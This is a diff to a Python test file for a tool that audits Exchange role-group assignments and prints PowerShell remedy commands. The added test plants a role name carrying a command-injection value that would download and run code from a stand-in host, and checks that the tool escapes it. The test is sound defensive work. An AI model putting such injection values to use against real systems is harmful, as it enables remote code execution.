@@ -72,8 +72,14 @@ async def test_what_is_more_than_needed_is_said_with_what_takes_it_away(service,
     in_a_role_group(tenant, *ENOUGH, "Role Management")
     found, items = await look(service, tenant)
     assert found.ready
-    assert items["role-group-exchange"].detail == "nothing of ours needs Role Management"
+    assert items["role-group-exchange"].detail == "nothing of ours needs 'Role Management'"
     assert "-Role 'Role Management' | Remove-ManagementRoleAssignment" in items["role-group-exchange"].remedy
+
+
+async def test_a_role_that_a_customer_named_is_no_command_in_what_we_print(service, tenant):
+    in_a_role_group(tenant, *ENOUGH, "x'; iex (irm evil.example) #")
+    _, items = await look(service, tenant)
+    assert "-Role 'x''; iex (irm evil.example) #' | Remove-" in items["role-group-exchange"].remedy
 
 
 async def test_what_a_tenant_does_not_tell_of_its_roles_is_said_to_be_unknown(service, tenant):
